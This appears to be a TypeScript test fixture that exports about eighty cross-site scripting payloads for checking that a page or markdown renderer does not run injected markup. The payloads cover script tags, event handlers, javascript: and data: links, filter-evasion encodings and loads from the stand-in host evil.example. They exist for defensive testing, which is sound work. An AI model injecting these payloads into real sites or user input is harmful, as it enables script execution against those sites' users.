/**
 * Texts that would run a script, load something or lead away if any page took them for markup. Those that run do it by
 * setting `window.atacado` or by opening a dialog. One a line; several come from OWASP's and PortSwigger's lists.
 */
export const HOSTILE_TEXTS: readonly string[] = String.raw`
<script>window.atacado=1</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>window.atacado=1</scr</script>ipt>
<script/x>window.atacado=1</script>
<script\x20type="text/javascript">window.atacado=1;</script>
<script>window.atacado=1//
<<script>window.atacado=1;//<</script>
"><script>window.atacado=1</script>
'><script>window.atacado=1</script>
</title><script>window.atacado=1</script>
</textarea><script>window.atacado=1</script>
</style><script>window.atacado=1</script>
--><script>window.atacado=1</script>
]]><script>window.atacado=1</script>
<img src=x onerror=window.atacado=1>
<img src=x onerror="window.atacado=1">
<img/src=x/onerror=window.atacado=1>
<img src=x:x onerror=window.atacado=1>
<IMG """><SCRIPT>window.atacado=1</SCRIPT>">
<img src="javascript:window.atacado=1">
<img src=1 href=1 onerror="javascript:window.atacado=1"></img>
<image/src/onerror=window.atacado=1>
"><img src=x onerror=window.atacado=1>
<svg onload=window.atacado=1>
<svg/onload=window.atacado=1>
<svg><script>window.atacado=1</script></svg>
<svg><animate onbegin=window.atacado=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:window.atacado=1"><text x="20" y="20">x</text></a></svg>
<svg><set attributeName=onmouseover value=window.atacado=1>
<math><mi//xlink:href="data:x,<script>window.atacado=1</script>">
<math href="javascript:window.atacado=1">CLICK</math>
<body onload=window.atacado=1>
<body onpageshow=window.atacado=1>
<html onmousemove=window.atacado=1>
<input autofocus onfocus=window.atacado=1>
<select autofocus onfocus=window.atacado=1>
<textarea autofocus onfocus=window.atacado=1>
<keygen autofocus onfocus=window.atacado=1>
<video src=x onerror=window.atacado=1></video>
<video><source onerror="window.atacado=1">
<audio src=x onerror=window.atacado=1></audio>
<details open ontoggle=window.atacado=1>
<marquee onstart=window.atacado=1></marquee>
<meter onmouseover=window.atacado=1>0</meter>
<isindex type=image src=1 onerror=window.atacado=1>
<object data="javascript:window.atacado=1"></object>
<object data=data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXRhY2Fkbz0xPC9zY3JpcHQ+></object>
<embed src="javascript:window.atacado=1">
<iframe src="javascript:window.atacado=1"></iframe>
<iframe srcdoc="<script>parent.atacado=1</script>"></iframe>
<iframe onload=window.atacado=1></iframe>
<form action="javascript:window.atacado=1"><button>x</button></form>
<button formaction="javascript:window.atacado=1">x</button>
<a href="javascript:window.atacado=1">x</a>
<a href="jAvAsCrIpT:window.atacado=1">x</a>
<a href="java&#x09;script:window.atacado=1">x</a>
<a href="&#106;avascript:window.atacado=1">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>window.atacado=1</script>">x</a>
[x](javascript:window.atacado=1)
[x](JaVaScRiPt:window.atacado=1)
[x](javascript&colon;window.atacado=1)
[x](&#106;&#97;vascript:window.atacado=1)
[x](java
script:window.atacado=1)
[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXRhY2Fkbz0xPC9zY3JpcHQ+)
[x](vbscript:msgbox(1))
[x](<javascript:window.atacado=1>)
[x]( javascript:window.atacado=1 "x")
![x](javascript:window.atacado=1)
![x](x"onerror="window.atacado=1)
![x](data:image/svg+xml,<svg onload=window.atacado=1>)
<javascript:window.atacado=1>
[x][y]: javascript:window.atacado=1
<meta http-equiv="refresh" content="0;url=javascript:window.atacado=1">
<link rel=stylesheet href=//evil.example/x.css>
<base href="javascript:window.atacado=1//">
<style>@import'//evil.example/x.css';</style>
<div style="background:url(javascript:window.atacado=1)">x</div>
<template><script>window.atacado=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.atacado=1>">
{{constructor.constructor('window.atacado=1')()}}
javascript:window.atacado=1
`
  .split('\n')
  .filter((line) => line.trim() !== '');

/** All of them as one text, each a paragraph of its own. */
export const ALL_HOSTILE = HOSTILE_TEXTS.join('\n\n');
